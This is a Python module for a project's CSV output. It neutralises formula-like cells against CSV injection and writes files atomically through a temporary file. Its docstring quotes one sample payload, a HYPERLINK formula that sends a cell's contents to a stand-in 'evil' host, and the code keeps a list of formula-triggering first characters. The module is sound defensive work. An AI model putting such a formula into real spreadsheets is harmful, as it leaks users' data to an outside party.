"""The one CSV writer of the project: tables that a spreadsheet opens as text, written whole or not at all.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` is read by Excel, LibreOffice and Google Sheets as a
formula (``=HYPERLINK("http://evil/?"&A1, "click")``), and article titles, outlet names and words come
from whoever wrote the articles. :func:`write_csv` prefixes such text cells, and such column names, with
an apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as the plain text and do not run (OWASP's
advice on CSV injection). Numbers are left as numbers: ``-0.25`` in a numeric column stays ``-0.25``.

The file is written under a temporary name in the same folder and renamed into place, so a full disk or a
killed process never leaves a truncated table under the real name.
"""
from __future__ import annotations

import os
import secrets
from pathlib import Path

#: First characters that make a spreadsheet read a cell as a formula; tab and carriage return are on
#: OWASP's list too because some spreadsheets strip them and then read what follows.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` with an apostrophe in front when it is text that a spreadsheet would take for a formula;
    anything else (numbers, empty text, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame):
    """A copy of the DataFrame ``frame`` whose text cells and column names are :func:`neutralise`-d.
    Only object and string columns are touched; numeric columns keep their type and values."""
    from pandas.api import types

    out = frame.copy()
    for column in out.columns:
        kind = out[column].dtype
        if not (types.is_numeric_dtype(kind) or types.is_bool_dtype(kind)
                or types.is_datetime64_any_dtype(kind)):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def write_atomic(path: str | Path, write) -> Path:
    """Call ``write(temporary path)`` and rename the result to ``path``; on any error the temporary file is
    removed and ``path`` is left as it was. Returns ``path``."""
    path = Path(path)
    tmp = path.with_name(f".{path.name}.{os.getpid()}-{secrets.token_hex(4)}.part")
    os.close(os.open(tmp, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666))  # the usual permissions (umask)
    try:
        write(tmp)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return path


def write_csv(frame, path: str | Path) -> Path:
    """Write the DataFrame ``frame`` to ``path`` as UTF-8 CSV without the index, formula-like text
    neutralised (see the module's docstring), through a temporary file. Returns ``path``."""
    safe = safe_frame(frame)
    return write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, encoding="utf-8"))


def write_text(path: str | Path, text: str) -> Path:
    """Write ``text`` (UTF-8) to ``path`` through a temporary file. Returns ``path``."""
    return write_atomic(path, lambda tmp: tmp.write_text(text, encoding="utf-8"))


def neutralise_csv_file(path: str | Path) -> bool:
    """Rewrite a CSV file another writer made so that it is neutralised as :func:`write_csv` does: cells are
    read as text, a column whose every non-empty cell is a number is left alone, other cells and the header
    are neutralised; nothing else changes. Returns whether the file changed.

    Only the columns that have a cell starting like a formula are looked at further (whether every cell is a
    number, then each cell): the others would come out as they are (the same file as checking each column,
    at a fraction of the cost: most columns of a report's tables have no such cell)."""
    import pandas as pd

    try:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8")
    except pd.errors.EmptyDataError:
        return False
    safe = frame.copy()
    changed = False
    for column in safe.columns:
        cells = safe[column]
        if not cells.str.startswith(FORMULA_STARTS).any():
            continue  # no cell a spreadsheet would run: neutralising changes nothing
        filled = cells[cells != ""]
        if pd.to_numeric(filled, errors="coerce").notna().all():
            continue  # a numeric column: -0.25 is a number, not a formula
        safe[column] = cells.map(neutralise)
        changed = True
    names = [neutralise(str(c)) for c in safe.columns]
    if not changed and names == list(frame.columns):
        return False
    safe.columns = names
    write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, encoding="utf-8"))
    return True
